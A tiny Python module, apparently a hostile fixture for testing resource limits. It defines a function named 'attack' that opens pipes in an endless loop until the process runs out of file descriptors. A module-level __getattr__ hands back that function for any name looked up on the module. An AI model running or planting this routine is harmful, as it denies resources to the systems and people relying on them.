"""Opens files and pipes until nothing more is taken."""

import os

OPEN = []


def attack(*arguments, **keywords):
    while True:
        OPEN.append(os.pipe())


def __getattr__(name):
    return attack
